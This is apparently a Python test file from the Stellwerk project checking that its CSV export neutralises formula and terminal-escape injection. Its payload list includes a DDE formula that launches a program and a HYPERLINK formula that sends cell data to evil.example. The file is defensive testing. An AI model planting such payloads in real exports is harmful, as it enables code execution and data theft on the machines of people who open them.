# SPDX-FileCopyrightText: 2026 Stellwerk contributors
# SPDX-License-Identifier: EUPL-1.2
"""CWE-1236: a text in the database must not become a formula in somebody's spreadsheet, nor a command in a terminal."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from stellwerk.administration.full_export.archive import write
from stellwerk.administration.full_export.cells import cell, harmless, lines
from stellwerk.storage.database import Database, Place
from stellwerk.storage.tables import cost_centre

EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1;"hier")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "﹢1",
]


@pytest.mark.parametrize("text", EVIL)
def test_csv_formula_injection(text: str) -> None:
    assert harmless(text).startswith("'")
    assert cell([text, "x"]).startswith("'")


@pytest.mark.parametrize(
    "text", ["", "Straße", "1-2", "a=b", "'=1", "€", "2026-01-31", "m.muster@stadt.example"]
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_no_text_breaks_out_of_its_cell(rows: list[list[str]]) -> None:
    raw = b"".join(lines(["a", "b"], rows)).decode("utf-8-sig")
    head, *read = csv.reader(io.StringIO(raw, newline=""), delimiter=";")
    assert head == ["a", "b"]
    assert read == [[harmless(value) for value in row] for row in rows]
    assert all(not value.lstrip().startswith(tuple("=+-@")) for row in read for value in row)
    assert all(c.isprintable() or c in "\r\n" for c in raw)


def test_csv_injection_by_a_title(place: Place) -> None:
    evil = '=1+1\x1b]0;owned\x07\u202e;"\r\n@x'
    database = Database(place)
    with database.writing() as writing:
        values = {"code": "-1", "title": evil, "source": "people", "version": 1, "changed": 1}
        writing.execute(sa.insert(cost_centre).values(values))
    out = io.BytesIO()
    write(database, out)
    database.close()
    with zipfile.ZipFile(out) as archive:
        text = archive.read("cost-centres.csv").decode("utf-8-sig")
        exact = json.loads(archive.read("cost-centres.json"))
    ((code, title, *_),) = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
    assert code == "'-1"
    assert title.startswith("'=1+1")
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert exact[0]["title"] == evil
